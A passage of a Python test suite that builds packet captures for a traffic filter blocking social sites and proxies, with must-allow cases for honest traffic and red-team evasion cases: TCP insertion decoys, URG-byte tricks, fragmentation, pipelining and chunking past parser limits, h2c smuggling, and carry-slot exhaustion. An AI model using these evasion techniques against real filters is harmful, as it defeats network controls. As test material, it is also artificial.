    discards, then right saying "st: m.vk.com". Only a copy the receiver takes is read.
    Must drop (social)."""
    cap, t = ka_flow(n, 49033)
    first = b"GET /feed HTTP/1.1\r\nHo"
    decoy = b"st: www.example.org\r\nX-Pad: 12345\r\n\r\n"
    real = b"st: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"
    base = t.cseq
    t.raw(True, "PA", first, seq=base)
    t.raw(True, "PA", decoy, seq=base + len(first), tcpkw={"chksum": 0x1234})
    t.raw(True, "PA", real, seq=base + len(first))
    t.cseq = base + len(first) + len(real)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_ka_late_proxy(n):
    """(Eighteenth session) Office HTTP kept alive: four requests for www.example.org,
    then an absolute-form request (GET http://www.example.net/ ...), which only a proxy
    serves. Proxy use is behaviour, judged at every request. Must drop (proxy)."""
    cap, t = ka_flow(n, 49034)
    t.data(True, b"GET http://www.example.net/ HTTP/1.1\r\nHost: www.example.net\r\nX-Mark: "
           + leak(n) + b"\r\n\r\n")
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_ka_late_cookie_ok(n):
    """(Eighteenth session) Must-allow: after four requests, a fifth for www.example.org
    whose head (3 KB of cookies) comes in three segments, then a POST whose 4 KB body
    comes in three segments, the second starting "CONNECT x.example:443 HTTP/1.1" (body
    bytes, no request), then a last GET. Heads are joined, bodies passed over."""
    cap, t = ka_flow(n, 49035)
    cookie = b"Cookie: " + b"; ".join(b"c%d=%s" % (i, prand("%s-c%d" % (n, i), 40).hex().encode())
                                      for i in range(36)) + b"\r\n"
    head = b"GET /5 HTTP/1.1\r\nHost: www.example.org\r\n" + cookie + b"Accept: */*\r\n\r\n"
    cut_at(t, head, [1200, 2400])
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    part = b"CONNECT x.example:443 HTTP/1.1\r\nHost: x.example:443\r\n\r\n"
    body = prand(n + "p1", 1400) + part + prand(n + "p2", 1400 - len(part)) + prand(n + "p3", 1200)
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: %d\r\n"
           b"Content-Type: application/octet-stream\r\n\r\n" % len(body))
    cut_at(t, body, [1400, 2800])
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    t.data(True, b"GET /6 HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n")
    body = passm(n) + prand(n + "last", 100)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_ka_late_pipe_ok(n):
    """(Eighteenth session) Must-allow: after four requests, two pipelined GETs for
    www.example.org in one segment, the second cut after "GE", its rest in the next
    segment (an honest client's pipelining across a segment boundary)."""
    cap, t = ka_flow(n, 49036)
    t.data(True, b"GET /5 HTTP/1.1\r\nHost: www.example.org\r\n\r\nGE")
    t.data(True, b"T /6 HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n")
    body = passm(n) + prand(n + "b", 100)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
           b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_office_smtp_tls_ok(n):
    """(Eighteenth session, found by a differential replay of the corpus) Must-allow:
    office mail submission on 587 with STARTTLS, then 40 KB of TLS records. "EHLO x" looks
    like a request line: read as HTTP, the whole stream was joined as one head and
    refused at 16 KiB. Only a first line with an HTTP/1 version turns the reading on."""
    cap = Capture()
    t = ETcp(cap, O1, 49040, SOC, 587, isn=0x49040, rtt_us=20000)
    t.handshake()
    t.data(False, b"220 relay.example ESMTP\r\n")
    t.data(True, b"EHLO pc1.office.example\r\n")
    t.data(False, b"250-relay.example\r\n250 STARTTLS\r\n")
    t.data(True, b"STARTTLS\r\n")
    t.data(False, b"220 2.0.0 Ready to start TLS\r\n")
    t.data(True, b"\x16\x03\x01\x00\xc8" + prand(n + "ch", 200))
    for i in range(29):
        body = prand("%s-r%d" % (n, i), 1395)
        if i == 28:
            body = passm(n) + body[len(passm(n)):]
        t.data(True, b"\x17\x03\x03\x05\x73" + body)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_office_smtp_link_ok(n):
    """(Eighteenth session, differential replay) Must-allow: office plain SMTP whose mail
    body, in its own segment, starts "Download http://files.partner.example/x.pdf": a
    line that looks like an absolute-form request, read as proxy use."""
    cap = Capture()
    t = ETcp(cap, O1, 49041, SOC, 25, isn=0x49041, rtt_us=20000)
    t.handshake()
    for c, sv in ((None, b"220 relay.example ESMTP\r\n"), (b"EHLO pc1.office.example\r\n", b"250 relay.example\r\n"),
                  (b"MAIL FROM:<a@office.example>\r\n", b"250 OK\r\n"),
                  (b"RCPT TO:<b@partner.example>\r\n", b"250 OK\r\n"), (b"DATA\r\n", b"354 go ahead\r\n")):
        if c:
            t.data(True, c)
        t.data(False, sv)
    t.data(True, b"From: a@office.example\r\nSubject: r\r\n\r\n")
    t.data(True, b"Download http://files.partner.example/x.pdf today " + passm(n) + b"\r\n.\r\n")
    t.data(False, b"250 queued\r\n")
    t.data(True, b"QUIT\r\n")
    t.data(False, b"221 bye\r\n")
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_office_rtsp_ok(n):
    """(Eighteenth session, differential replay: nDPI's rtsp.pcap) Must-allow: office
    RTSP on 554: OPTIONS, DESCRIBE, SETUP, then PLAY rtsp://... after the verdict. RTSP's
    request lines look like HTTP's with an absolute URL (proxy use to an HTTP reading)
    but end in RTSP/1.0."""
    cap = Capture()
    t = ETcp(cap, O1, 49042, SOC, 554, isn=0x49042, rtt_us=20000)
    t.handshake()
    url = b"rtsp://203.0.113.70:554/cam1"
    for i, m in enumerate((b"OPTIONS", b"DESCRIBE", b"SETUP", b"SETUP", b"PLAY", b"GET_PARAMETER")):
        tail = b"X-Mark: " + passm(n) + b"\r\n" if m == b"GET_PARAMETER" else b""
        t.data(True, m + b" " + url + b" RTSP/1.0\r\nCSeq: %d\r\nUser-Agent: LibVLC/3.0.18\r\n" % (i + 1)
               + tail + b"\r\n")
        t.data(False, b"RTSP/1.0 200 OK\r\nCSeq: %d\r\n\r\n" % (i + 1))
    t.close()
    return cap, {"pass": [passm(n)]}


# --- red team (eighteenth session review): judge_http_more, later requests


def _rtk_vk_req(n, path=b"/feed"):
    return b"GET " + path + b" HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"


def _vk_answer(t, n):
    body = leak(n) + prand(n + "vk", 200)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)


def _ok_answer(t, n, mark=True):
    body = (passm(n) if mark else b"") + prand(n + "ok", 100)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)


@case
def case_rtk_pipe9_vk(n):
    """(Red team, judge_http_more) After four answered requests, one segment holding nine
    pipelined GETs: eight for www.example.org, the ninth for m.vk.com. nginx, Apache and
    Node serve every pipelined request in order; hs_http_requests stops after 8 heads
    of a payload and returns 0, so the ninth is never read. Must drop (social)."""
    cap, t = ka_flow(n, 49100)
    ok = b"".join(b"GET /p%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % i for i in range(8))
    t.data(True, ok + _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_method_dash_vk(n):
    """(Red team) After four answered requests, one segment: an M-SEARCH request (a method
    llhttp/Node parses and hands to the app; nginx parses any A-Z/-/_ method and answers
    405 keeping the connection; Apache any token) for www.example.org, then a GET for
    m.vk.com. hs_method takes letters only, so the first is no request and reading of the
    payload stops there. Must drop (social)."""
    cap, t = ka_flow(n, 49101)
    t.data(True, b"M-SEARCH * HTTP/1.1\r\nHost: www.example.org\r\n\r\n" + _rtk_vk_req(n))
    t.data(False, b"HTTP/1.1 405 Not Allowed\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_chunk_span_vk(n):
    """(Red team) After four answered requests, a chunked POST whose last chunk comes in
    the next segment: "0\\r\\n\\r\\n" then a GET for m.vk.com. hs_http_body_end returns 0
    (the chunked body is not whole), no body state is kept, and the next segment is read
    from its first byte ("0\\r\\n" is no request): the GET is never read. nginx (1.3.9+),
    Apache, Node read the chunked body to its end and serve the GET. Must drop (social)."""
    cap, t = ka_flow(n, 49102)
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: chunked\r\n"
           b"Content-Type: text/plain\r\n\r\n5\r\nhello\r\n")
    t.data(True, b"0\r\n\r\n" + _rtk_vk_req(n))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_early_chunk_vk(n):
    """(Red team) rtk_chunk_span_vk on the flow's first two payloads (before the verdict):
    a chunked POST for www.example.org, then "0\\r\\n\\r\\n" + GET for m.vk.com. Must drop
    (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49113, SOC, 80, isn=49113 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: chunked\r\n"
           b"Content-Type: text/plain\r\n\r\n5\r\nhello\r\n")
    t.data(True, b"0\r\n\r\n" + _rtk_vk_req(n))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


def _big_head(total, host=b"www.example.org"):
    """A GET head of exactly `total` bytes, Host first, cookie lines under 8000 bytes
    (nginx's large_client_header_buffers 4 8k, Apache's LimitRequestFieldSize 8190)."""
    head = b"GET /big HTTP/1.1\r\nHost: " + host + b"\r\nUser-Agent: curl/8.5.0\r\n"
    i = 0
    while True:
        room = total - len(head) - 2  # the empty line
        if room <= 0:
            break
        line_len = min(7900, room)
        pre = b"Cookie: k%d=" % i
        if line_len < len(pre) + 3:
            # pad the previous cookie line instead
            head = head[:-2] + b"z" * room + b"\r\n"
            break
        head += pre + b"v" * (line_len - len(pre) - 2) + b"\r\n"
        i += 1
    head += b"\r\n"
    assert len(head) == total, (len(head), total)
    return head


@case
def case_rtk_bighead_pipe_vk(n):
    """(Red team) After four answered requests, a 20000-byte head (Host: www.example.org
    first, then cookie lines under 8 KB) in 1400-byte segments; the segment that ends it
    also holds a pipelined GET for m.vk.com. Past 16 KiB judge_http_more lets the head go
    and reads "each segment from its first byte": the GET after the head's end inside a
    segment is never read. nginx (4 x 8k buffers), Apache (8190 a field) and Squid (64 KB)
    read the head and serve the GET. Must drop (social)."""
    cap, t = ka_flow(n, 49103)
    head = _big_head(20000)
    cut_at(t, head + _rtk_vk_req(n), list(range(1400, len(head), 1400)))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_carry_trunc_vk(n):
    """(Red team) After four answered requests, a head of exactly 16384 bytes (Host: www.
    example.org first) in 1400-byte segments, the last of which also holds a pipelined GET
    for m.vk.com. The joined copy is cut at WORKER_CARRY_MAX (judge_http_more: k = MAX -
    c->len): the head ends exactly there, and the rest of the segment (the GET) is passed
    unread. Must drop (social)."""
    cap, t = ka_flow(n, 49104)
    head = _big_head(16384)
    cut_at(t, head + _rtk_vk_req(n), list(range(1400, len(head), 1400)))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_crlf_first_vk(n):
    """(Red team) The client's first payload is a bare CRLF (servers skip empty lines
    before a request line, RFC 9112 2.2; nginx's sw_start, llhttp), then 24 answered
    GETs for www.example.org (the flow is given up, allowed, on the way), then one for
    m.vk.com. hs_http_starts("\\r\\n") is false, so f->hw.on stays 0 for the flow's
    life and no request after the verdict is read. Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49105, SOC, 80, isn=49105 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"\r\n")
    for i in range(24):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n" % i)
        body = prand("%s-b%d" % (n, i), 200)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_ooo_first_vk(n):
    """(Red team) The first request's two pieces sent second first ("/0 HTTP/1.1 ..."
    then "GET "): f->hw.on is decided on the first payload seen, not the stream's first
    bytes. Then three more GETs for www.example.org and a fifth for m.vk.com. Must drop
    (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49115, SOC, 80, isn=49115 * 7, rtt_us=20000)
    t.handshake()
    req = b"GET /0 HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n"
    cut_at(t, req, [4], order=[1, 0, 1])
    body = prand("%s-b0" % n, 200)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    for i in range(1, 4):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n" % i)
        body = prand("%s-b%d" % (n, i), 200)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    t.data(True, _rtk_vk_req(n))
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_noack_insert_vk(n):
    """(Red team) After four answered requests, a decoy fifth request for www.example.org
    sent WITHOUT the ACK flag, then the real one (m.vk.com, same length, same sequence
    number) with ACK. A receiver drops a data segment without ACK (RFC 9293 3.10.7.4
    "if the ACK bit is off drop the segment"; Linux tcp_rcv_established, FreeBSD
    tcp_do_segment); judge_http_more reads the decoy, advances hw.next, and passes the
    real copy as old bytes, unread. Must drop (social)."""
    cap, t = ka_flow(n, 49106)
    real = b"GET /feed HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"
    decoy = b"GET /feed HTTP/1.1\r\nHost: www.example.org\r\n\r\n"
    decoy = decoy[:-2] + b"X-Pad: " + b"p" * (len(real) - len(decoy) - 9) + b"\r\n\r\n"
    assert len(decoy) == len(real)
    base = t.cseq
    t.raw(True, "P", decoy, seq=base)
    t.raw(True, "PA", real, seq=base)
    t.cseq = base + len(real)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_ackunsent_insert_vk(n):
    """(Red team) As rtk_noack_insert_vk, the decoy carrying an ACK of data the server
    never sent (SEG.ACK > SND.NXT): RFC 9293 3.10.7.4 says send an ACK and drop the
    segment (Linux tcp_ack < 0 -> discard). Must drop (social)."""
    cap, t = ka_flow(n, 49114)
    real = b"GET /feed HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"
    decoy = b"GET /feed HTTP/1.1\r\nHost: www.example.org\r\n\r\n"
    decoy = decoy[:-2] + b"X-Pad: " + b"p" * (len(real) - len(decoy) - 9) + b"\r\n\r\n"
    base = t.cseq
    t.raw(True, "PA", decoy, seq=base, ack=(t.sseq + 0x20000000) & 0xffffffff)
    t.raw(True, "PA", real, seq=base)
    t.cseq = base + len(real)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_urg_vk(n):
    """(Red team) After four answered requests, a fifth request for m.vk.com sent with URG
    whose urgent byte is an "X" inside "Host": Linux (no SO_OOBINLINE: nginx, Apache,
    Node) takes the urgent byte out of the stream (tcp_check_urg / tcp_recvmsg), so the
    server reads "Host: m.vk.com"; judge_http_more reads "HoXst: m.vk.com", no Host.
    Before the verdict URG is an exception; after it, it is not looked at. Must drop
    (social)."""
    cap, t = ka_flow(n, 49107)
    pre = b"GET /feed HTTP/1.1\r\nHo"
    pl = pre + b"X" + b"st: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n"
    t.raw(True, "PAU", pl, tcpkw={"urgptr": len(pre) + 1})
    t.cseq += len(pl)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


def _h2_frame(ftype, flags, sid, payload):
    return struct.pack("!I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack("!I", sid) + payload


def _hpack_lit(name, value):
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


@case
def case_rtk_h2c_upgrade_vk(n):
    """(Red team) After four answered requests, a fifth for www.example.org asking
    "Upgrade: h2c" (Apache mod_http2 answers 101 on plain HTTP by default with Protocols
    h2c), then the HTTP/2 preface and a HEADERS frame on stream 3 with :authority
    m.vk.com (a literal, no Huffman). After the verdict judge_http_more reads the preface
    as "PRI * HTTP/2.0" and frames as no request. Must drop (social)."""
    cap, t = ka_flow(n, 49108)
    t.data(True, b"GET /5 HTTP/1.1\r\nHost: www.example.org\r\nConnection: Upgrade, HTTP2-Settings\r\n"
           b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n")
    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"
           + _h2_frame(4, 0, 0, b""))
    hb = (_hpack_lit(b":method", b"GET") + _hpack_lit(b":scheme", b"http") + _hpack_lit(b":path", b"/feed")
          + _hpack_lit(b":authority", b"m.vk.com") + _hpack_lit(b"x-mark", leak(n)))
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _h2_frame(4, 0, 0, b"") + _h2_frame(4, 1, 0, b""))
    t.data(True, _h2_frame(1, 5, 3, hb))
    t.data(False, _h2_frame(1, 4, 3, b"\x88") + _h2_frame(0, 1, 3, leak(n) + prand(n + "h2", 100)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_chunk_b64_ok(n):
    """(Red team) Must-allow: after four answered requests, an honest chunked upload (Go's
    net/http, Java setChunkedStreamingMode, curl -T - send unknown-length bodies so) of
    24000 bytes of base64 in one chunk, in 1400-byte segments, then a last GET. The body
    state of a chunked body is not kept: each later segment is read from its first byte,
    one starting with letters and no LF looks like a cut request line and is carried to
    16 KiB, then refused (no Host). Must allow."""
    cap, t = ka_flow(n, 49109)
    data = base64.b64encode(prand(n + "b64", 18000))
    t.data(True, b"POST /upload HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: chunked\r\n"
           b"Content-Type: text/plain\r\n\r\n")
    body = b"%x\r\n" % len(data) + data + b"\r\n0\r\n\r\n"
    cut_at(t, body, list(range(1400, len(body), 1400)))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    t.data(True, b"GET /6 HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n")
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rtk_chunk_text_ok(n):
    """(Red team) Must-allow: after four answered requests, an honest chunked upload of a
    text file (lines of words, one of them quoting a URL), chunks of 1000 bytes, in
    1400-byte segments, then a last GET. Segments that start inside a chunk are read as
    requests ("word word ..." is a request line to hs_method; "see http://..." an
    absolute-form target). Must allow."""
    cap, t = ka_flow(n, 49110)
    words = [b"alpha", b"beta", b"gamma", b"delta", b"see", b"http://www.example.net/x", b"notes",
             b"report", b"total", b"value"]
    lines = []
    for i in range(1200):
        lines.append(b" ".join(words[(i * 7 + k * 3) % len(words)] for k in range(5)) + b" %d\n" % i)
    text = b"".join(lines)
    body = b""
    for i in range(0, len(text), 1000):
        c = text[i:i + 1000]
        body += b"%x\r\n" % len(c) + c + b"\r\n"
    body += b"0\r\n\r\n"
    t.data(True, b"POST /upload HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: chunked\r\n"
           b"Content-Type: text/plain\r\n\r\n")
    cut_at(t, body, list(range(1400, len(body), 1400)))
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    t.data(True, b"GET /6 HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n")
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rtk_expect_ok(n):
    """(Red team) Must-allow: after four answered requests, curl's POST with "Expect:
    100-continue" and a 4000-byte text body, the server's 100 Continue, the body in three
    segments (each starting with words), the 200, then a last GET."""
    cap, t = ka_flow(n, 49111)
    text = b"".join(b"see http://www.example.net/p%d and more words here\n" % i for i in range(200))[:4000]
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n"
           b"Content-Length: %d\r\nExpect: 100-continue\r\n\r\n" % len(text))
    t.data(False, b"HTTP/1.1 100 Continue\r\n\r\n")
    cut_at(t, text, [1400, 2800])
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    t.data(True, b"GET /6 HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"\r\n\r\n")
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rtk_carry_dos_ok(n):
    """(Red team) Must-allow (denial of service): another office host opens 300 HTTP
    connections, each sending a request head without its end ("...X-A: "), which takes
    every one of the 128 carry slots of each worker for 4 s (it can be refreshed). Then an
    honest client, four answered GETs, then a fifth whose 3 KB head (cookies) comes in two
    segments: no slot, its first segment is dropped (http_carry_full), its second past
    the gap too."""
    cap = Capture()
    for i in range(300):
        a = ETcp(cap, "10.20.1.21", 20000 + i, SOC, 80, isn=1000 + i * 977, rtt_us=200)
        a.handshake()
        a.send(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\nX-A: " % i)
    t = ETcp(cap, O1, 49112, SOC, 80, isn=49112 * 7, rtt_us=20000)
    t.handshake()
    for i in range(4):
        t.data(True, b"GET /%d HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n" % i)
        body = prand("%s-b%d" % (n, i), 200)
        t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    cookie = b"Cookie: " + b"; ".join(b"c%d=%s" % (i, prand("%s-c%d" % (n, i), 40).hex().encode())
                                      for i in range(30)) + b"\r\n"
    head = b"GET /5 HTTP/1.1\r\nHost: www.example.org\r\n" + cookie + b"X-Mark: " + passm(n) + b"\r\n\r\n"
    cut_at(t, head, [1400])
    _ok_answer(t, n)
    t.close()
    return cap, {"pass": [passm(n)]}


def _decoy_for(real):
    decoy = b"GET /feed HTTP/1.1\r\nHost: www.example.org\r\n\r\n"
    decoy = decoy[:-2] + b"X-Pad: " + b"p" * (len(real) - len(decoy) - 9) + b"\r\n\r\n"
    assert len(decoy) == len(real)
    return decoy


@case
def case_rtk_ipcsum_insert_vk(n):
    """(Red team) As rtk_noack_insert_vk, the decoy with a wrong IPv4 header checksum (the
    server's IP layer drops it, ip_rcv_core). Must drop (social)."""
    cap, t = ka_flow(n, 49116)
    real = _rtk_vk_req(n)
    base = t.cseq
    t.raw(True, "PA", _decoy_for(real), seq=base, ipkw={"chksum": 0x1234})
    t.raw(True, "PA", real, seq=base)
    t.cseq = base + len(real)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_md5_insert_vk(n):
    """(Red team) As rtk_noack_insert_vk, the decoy carrying a TCP MD5 signature option
    (kind 19, RFC 2385): a Linux socket without an MD5 key drops it (tcp_inbound_md5_hash,
    TCPMD5Unexpected). Must drop (social)."""
    cap, t = ka_flow(n, 49117)
    real = _rtk_vk_req(n)
    base = t.cseq
    t.raw(True, "PA", _decoy_for(real), seq=base, options=[(19, prand(n + "md5", 16)), ("NOP", None),
                                                             ("NOP", None)])
    t.raw(True, "PA", real, seq=base)
    t.cseq = base + len(real)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_frag_vk(n):
    """(Red team) After four answered requests, the fifth (m.vk.com) in two IPv4
    fragments, the Host line in the second. Must drop (social)."""
    cap, t = ka_flow(n, 49118)
    real = _rtk_vk_req(n)
    t.raw(True, "PA", real, frag=[24])
    t.cseq += len(real)
    _vk_answer(t, n)
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rtk_h2pk_late_vk(n):
    """(Red team) Office h2c with prior knowledge (nginx `listen 80; http2 on;`): streams
    1, 3, 5, 7 for www.example.org one after another, each answered, then stream 9 for
    m.vk.com (nginx sets the virtual server per stream from :authority). Only the first
    header blocks were read; since the nineteenth session every later one is
    (h2_after, judge_h2w_feed). Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 49119, SOC, 80, isn=49119 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
           + h2_frame(1, 5, 1, h2_hb(b"www.example.org", b"one")))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
    for sid in (3, 5, 7):
        t.data(True, h2_frame(1, 5, sid, h2_hb(b"www.example.org", b"x%d" % sid)))
        t.data(False, h2_frame(1, 4, sid, b"\x88") + h2_frame(0, 1, sid, b"ok"))
    t.data(True, h2_frame(1, 5, 9, h2_hb(b"m.vk.com", leak(n))))
    t.data(False, h2_frame(1, 4, 9, b"\x88") + h2_frame(0, 1, 9, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


def h2_idx_block(authority, marker, indexed):
    """A request block whose :authority is a literal with incremental indexing (it
    enters the server's HPACK table) or, indexed, the table's newest entry (index 62)."""
    if indexed:
        auth = b"\xbe"
    else:
        auth = b"\x41" + bytes([len(authority)]) + authority
    return b"\x82\x86\x84" + auth + b"\x00\x06x-mark" + bytes([len(marker)]) + marker


def h2c_long(n, cport, last, last_marker):
    """Office h2c with prior knowledge: 40 streams for www.example.org (the first
    puts its :authority in the table, the others index it), request bodies in DATA
    frames, WINDOW_UPDATEs and PINGs, each answered, well past the classification
    budget; then last(t) sends what comes next."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 80, isn=cport * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
           + h2_frame(1, 5, 1, h2_idx_block(b"www.example.org", b"one", False)))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88")
           + h2_frame(0, 1, 1, b"ok"))
    t.data(True, h2_frame(4, 1, 0, b""))
    for sid in range(3, 81, 2):
        body = prand("%s-%d" % (n, sid), 300)
        t.data(True, h2_frame(1, 4, sid, h2_idx_block(b"www.example.org", b"x%d" % sid, True))
               + h2_frame(0, 0, sid, body[:150]))
        t.data(True, h2_frame(0, 1, sid, body[150:]) + h2_frame(8, 0, 0, b"\x00\x00\x01\x00"))
        t.data(False, h2_frame(1, 4, sid, b"\x88") + h2_frame(0, 1, sid, b"ok"))
        if sid % 10 == 1:
            t.data(True, h2_frame(6, 0, 0, b"pingpong"))
            t.data(False, h2_frame(6, 1, 0, b"pingpong"))
    last(t)
    t.close()
    return cap


@case
def case_h2pk_decided_vk(n):
    """Office h2c with prior knowledge, decided long before (h2c_long: 40 streams for
    www.example.org, bodies, WINDOW_UPDATEs, PINGs), then stream 81 for m.vk.com in a
    HEADERS frame and a CONTINUATION, each in a segment of its own, the HEADERS frame
    cut after its frame header. Must drop (social)."""
    def last(t):
        blk = h2_idx_block(b"m.vk.com", leak(n), False)
        hdr = h2_frame(1, 1, 81, blk[:6])
        t.data(True, hdr[:9])
        t.data(True, hdr[9:])
        t.data(True, h2_frame(9, 4, 81, blk[6:]))
        t.data(False, h2_frame(1, 4, 81, b"\x88") + h2_frame(0, 1, 81, leak(n)))
    return h2c_long(n, 49223, last, leak(n)), {"leak": [leak(n)]}


@case
def case_h2pk_long_ok(n):
    """Must-allow: office h2c with prior knowledge (curl --http2-prior-knowledge, a gRPC
    channel in clear): h2c_long's 40 streams for www.example.org, then one more whose
    block comes in a HEADERS frame and a CONTINUATION, carrying the pass marker."""
    def last(t):
        blk = h2_idx_block(b"www.example.org", passm(n), True)
        t.data(True, h2_frame(1, 1, 81, blk[:3]) + h2_frame(9, 4, 81, blk[3:]))
        t.data(False, h2_frame(1, 4, 81, b"\x88") + h2_frame(0, 1, 81, passm(n)))
    return h2c_long(n, 49224, last, passm(n)), {"pass": [passm(n)]}


@case
def case_h2pk_late_stale_idx_vk(n):
    """Office h2c: after h2c_long, a block for stream 81 whose :authority indexes a table
    entry that only a reader that missed the earlier blocks would not have: a literal
    with incremental indexing of m.vk.com on stream 81, then stream 83 indexing it
    (index 62). Must drop (social)."""
    def last(t):
        t.data(True, h2_frame(1, 5, 81, h2_idx_block(b"m.vk.com", b"a", False)))
